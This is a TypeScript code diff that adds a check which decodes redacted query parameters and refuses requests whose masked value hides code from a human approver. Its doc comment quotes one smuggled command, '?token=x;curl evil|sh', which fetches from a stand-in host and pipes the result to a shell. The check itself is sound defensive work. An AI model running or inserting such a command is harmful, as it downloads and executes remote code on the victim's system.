@@ -5,6 +5,7 @@
 import type { CanonicalPath } from '../../wire/http/canonical-path.js';
 import type { FieldMatcher } from './field-names.js';
 import { clipShown } from '../../core/visible-text.js';
+import { stringViewHidesCode } from '../../masking/index.js';
 
 export interface RequestTarget {
   /** Path as received, still percent-encoded. */
@@ -86,6 +87,36 @@ export function shownTarget(path: string, rawQuery: string, fields: FieldMatcher
     return AUTH_PARAMS.test(name) || fields(name) !== undefined ? `${part.slice(0, eq)}=[REDACTED]` : part;
   });
   return `${path}?${parts.join('&')}`;
+}
+
+/**
+ * Where a query value the approver is shown as `[REDACTED]` holds more than a literal (whitespace, a line
+ * break, what a shell or a template reads as code), read as the upstream's framework reads it (`+` a
+ * blank, percent-escapes decoded); undefined when none does. As for a body (docs/security.md class 275),
+ * the approver would approve a masked value that is a command (`?token=x;curl evil|sh`): such a
+ * request is refused, not held (class 300). Says where, never what.
+ */
+export function targetHidesCode(rawQuery: string, fields: FieldMatcher): string | undefined {
+  if (rawQuery === '') return undefined;
+  for (const part of rawQuery.split('&')) {
+    const eq = part.indexOf('=');
+    if (eq < 0) continue;
+    const name = decodedQueryPart(part.slice(0, eq));
+    if (!AUTH_PARAMS.test(name) && fields(name) === undefined) continue;
+    const value = decodedQueryPart(part.slice(eq + 1));
+    const hidden = stringViewHidesCode(value, '', `the query parameter ${JSON.stringify(name.slice(0, 64))}`);
+    if (hidden !== undefined) return hidden;
+  }
+  return undefined;
+}
+
+function decodedQueryPart(s: string): string {
+  const spaced = s.replace(/\+/g, ' ');
+  try {
+    return decodeURIComponent(spaced);
+  } catch {
+    return spaced;
+  }
 }
 
 /** Characters of a request target kept in its record and shown to approvers. */
